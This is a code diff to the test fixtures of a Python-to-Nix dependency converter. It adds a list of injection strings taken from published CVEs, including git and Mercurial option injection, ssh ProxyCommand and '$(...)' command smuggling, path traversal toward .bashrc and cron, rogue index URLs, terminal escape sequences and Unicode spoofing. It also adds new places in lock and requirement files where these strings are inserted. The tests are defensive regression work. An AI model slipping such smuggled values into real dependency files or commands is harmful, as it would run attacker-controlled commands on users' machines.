@@ -239,8 +239,60 @@ const INVISIBLE = [
   "x".repeat(5000),
 ];
 
+/** What advisories and issues of other tools were about. */
+const ADVISORIES = [
+  // pip, a revision of Mercurial: CVE-2023-5752.
+  "--config=hooks.pre-clone=touch PY2NIX_PWNED",
+  "--config=alias.clone=!touch${IFS}PY2NIX_PWNED",
+  // Poetry, a repository or reference that git takes for an option: CVE-2022-36069. git itself: CVE-2018-17456.
+  "-u./payload",
+  "--exec=touch${IFS}PY2NIX_PWNED",
+  "-ccore.sshCommand=touch${IFS}PY2NIX_PWNED",
+  // git, Mercurial and Subversion, a host that ssh takes for an option: CVE-2017-1000117.
+  "ssh://-oProxyCommand=touch${IFS}PY2NIX_PWNED/r",
+  "-oProxyCommand=touch${IFS}PY2NIX_PWNED",
+  // Composer, a branch in a command line: CVE-2024-35242.
+  "v1$(touch${IFS}PY2NIX_PWNED)",
+  "v1;touch${IFS}PY2NIX_PWNED",
+  // Pipenv, an option in a comment: CVE-2022-21668.
+  " # -i https://evil.example.org/",
+  " # --index-url=https://evil.example.org/",
+  // pip, the name of a file that is fetched: CVE-2019-20916; setuptools: CVE-2025-47273.
+  "..%2f..%2f.bashrc",
+  "%2e%2e/%2e%2e/.bashrc",
+  "/etc/cron.d/evil",
+  // A reference or folder that leads pip to another repository or folder than the one that is read.
+  "v1@evil",
+  "v1#subdirectory=evil",
+  "v1#egg=other",
+  "a&egg=other",
+  "a]@https://evil.example.org/a.whl",
+  "a;python_version<'0'",
+  "v1?x=@evil",
+  // Generators of Nix: goreleaser#6983, nixidy#93, nixfromnpm#11, nix#3989.
+  'Say "hello"',
+  "the ${image_root} placeholder",
+  "(\\${CARGO_HOME}, ~/.cargo/)",
+  // Terminals: the clipboard, a query that is answered as if it were typed, a line that is written over.
+  "\x1b]52;c;dG91Y2g=\x07",
+  "\x1bP+q544e\x1b\\",
+  "\x1b[6n",
+  "\x9d0;title\x9c",
+  "error\rfine ",
+  // Text that reads as another: CVE-2021-42574, CVE-2021-42694, tags, fillers and variants.
+  "\u202e\u2066# fine\u2069 \u2066",
+  "fl\u0430sk",
+  "fl\u200bask",
+  "fl\u00adask",
+  "fl\u{e0001}\u{e0061}\u{e007f}ask",
+  "fl\u3164ask",
+  "fl\u{e0101}ask",
+];
+
 /** None twice. */
-export const ATTACKS: readonly string[] = [...new Set([...NIX, ...SHELL, ...PIP, ...KEYS, ...INVISIBLE])];
+export const ATTACKS: readonly string[] = [
+  ...new Set([...NIX, ...SHELL, ...PIP, ...KEYS, ...INVISIBLE, ...ADVISORIES]),
+];
 
 /** What an attack that works leaves behind in the working folder. */
 export const TRACE = "PY2NIX_PWNED";
@@ -281,7 +333,7 @@ export const POSITIONS: Readonly<Record<string, (attack: string) => Table>> = {
   "requirements: the fragment": (text) => ({
     "requirements.txt": `evil @ git+https://example.org/r@v1#subdirectory=${text}\n`,
   }),
-  "requirements: the path": (text) => ({ "requirements.txt": `./evil${text}.whl\n` }),
+  "requirements: the path": (text) => ({ "requirements.txt": `./a${text}/evil-1.0-py3-none-any.whl\n` }),
   "requirements: the editable": (text) => ({ "requirements.txt": `-e git+https://example.org/r@${text}#egg=evil\n` }),
   "requirements: --index-url": (text) => ({ "requirements.txt": `--index-url https://example.org/${text}\nevil\n` }),
   "requirements: --find-links": (text) => ({ "requirements.txt": `--find-links ./${text}\nevil\n` }),
@@ -318,7 +370,7 @@ export const POSITIONS: Readonly<Record<string, (attack: string) => Table>> = {
   "poetry: a subdirectory": (text) =>
     poetry(`evil = { git = "https://example.org/r", subdirectory = ${toml(text)} }\n`),
   "poetry: a path": (text) => poetry(`evil = { path = ${toml(`./${text}`)}, develop = true }\n`),
-  "poetry: a file": (text) => poetry(`evil = { file = ${toml(`${text}.whl`)} }\n`),
+  "poetry: a file": (text) => poetry(`evil = { file = ${toml(`${text}/evil-1.0-py3-none-any.whl`)} }\n`),
   "poetry: an extra": (text) => poetry(`evil = { version = "*", extras = [${toml(text)}] }\n`),
   "poetry: markers": (text) => poetry(`evil = { version = "*", markers = ${toml(`platform_version != '${text}'`)} }\n`),
   "poetry: a source": (text) =>
@@ -349,6 +401,25 @@ export const POSITIONS: Readonly<Record<string, (attack: string) => Table>> = {
   }),
   "pipfile: a name": (text) => ({ Pipfile: `[packages]\n${toml(text)} = "*"\n` }),
   "conda: a package": (text) => ({ "environment.yml": `dependencies:\n  - ${toml(text)}\n  - pip:\n    - evil\n` }),
+  "conda: a package for pip": (text) => ({
+    "environment.yml": `dependencies:\n  - flask\n  - pip:\n    - ${toml(`evil @ https://example.org/${text}`)}\n`,
+  }),
+  "script: a dependency": (text) => ({
+    "tool.py": `# /// script\n# dependencies = [${toml(`evil @ https://example.org/${text}`)}]\n# ///\n`,
+  }),
+  "hatch: an environment": (text) => pyproject(`[tool.hatch.envs.${toml(text)}]\ndependencies = ["evil"]\n`),
+  "uv: a constraint": (text) =>
+    pyproject(
+      `dependencies = ["evil"]\n[tool.uv]\nconstraint-dependencies = [${toml(`evil<2 ; platform_version != '${text}'`)}]\n`,
+    ),
+  "uv: an arbitrary version": (text) =>
+    pyproject(`dependencies = ["evil"]\n[tool.uv]\nconstraint-dependencies = [${toml(`evil===${text}`)}]\n`),
+  "pipfile: an index": (text) => ({
+    Pipfile: `[[source]]\nname = ${toml(text)}\nurl = ${toml(`https://example.org/${text}`)}\n[packages]\nevil = { version = "*", index = ${toml(text)} }\n`,
+  }),
+  "pipfile: Mercurial": (text) => ({
+    Pipfile: `[packages]\nevil = { hg = "https://example.org/r", ref = ${toml(text)} }\n`,
+  }),
   "setup.cfg: a URL": (text) => ({
     "setup.cfg": `[metadata]\nname = demo\n[options]\ninstall_requires = evil @ https://example.org/${text}\n`,
   }),
@@ -390,6 +461,18 @@ export const POSITIONS: Readonly<Record<string, (attack: string) => Table>> = {
       `{ registry = ${toml(`https://example.org/${text}`)} }`,
       `sdist = { url = "https://example.org/evil_thing-1.0.tar.gz", hash = "sha256:${DIGEST}" }\n`,
     ),
+  "poetry.lock: a file with its URL": (text) =>
+    poetryLock(
+      `[package.source]\ntype = "url"\nurl = ${toml(`https://example.org/${text}/evil_thing-1.0-py3-none-any.whl`)}\n`,
+      `[{file = "evil_thing-1.0-py3-none-any.whl", hash = "sha256:${DIGEST}"}]`,
+    ),
+  "uv.lock: a commit": (text) =>
+    uvLock(`{ git = ${toml(`https://example.org/r?rev=${text}#${DIGEST.slice(0, 40)}`)} }`),
+  "uv.lock: a wheel": (text) =>
+    uvLock(
+      '{ registry = "https://example.org/simple" }',
+      `wheels = [{ url = ${toml(`https://example.org/${text}/evil_thing-1.0-py3-none-any.whl`)}, hash = "sha256:${DIGEST}" }]\n`,
+    ),
   "pylock: an archive": (text) =>
     lock(
       "pylock.toml",
@@ -415,6 +498,18 @@ export const POSITIONS: Readonly<Record<string, (attack: string) => Table>> = {
   "settings: an attribute": (text) => ({
     ...pyproject('dependencies = ["flask"]\n'),
     "py2nix.toml": `[packages.flask]\nattribute = ${toml(`"${text}"`)}\n`,
+  }),
+  "settings: a package": (text) => ({
+    ...pyproject('dependencies = ["flask"]\n'),
+    "py2nix.toml": `[packages.${toml(text)}]\nfrom = "pip"\n`,
+  }),
+  "settings: a key": (text) => ({
+    ...pyproject('dependencies = ["flask"]\n'),
+    "py2nix.toml": `${toml(text)} = true\n`,
+  }),
+  "settings: a group": (text) => ({
+    ...pyproject('dependencies = ["flask"]\n'),
+    "py2nix.toml": `groups = [${toml(text)}]\n`,
   }),
   "settings: libraries": (text) => ({
     ...pyproject('dependencies = ["flask"]\n'),
